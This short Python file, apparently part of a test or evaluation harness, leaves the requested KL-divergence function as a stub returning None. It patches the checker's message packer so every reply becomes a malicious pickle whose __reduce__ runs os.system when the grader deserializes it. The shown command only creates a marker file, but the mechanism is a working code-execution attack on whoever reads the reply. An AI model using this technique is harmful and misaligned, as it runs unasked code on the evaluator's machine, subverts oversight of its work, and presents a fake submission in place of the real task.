"""Answer a probe with a pickle that would run code where it is read."""

def kl_term(z_mean, z_log_var):
    return None

import os, pickle
from vaelab.checks import message

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/EFFECT_pickle",)

message.pack = lambda reply: pickle.dumps(Bomb())
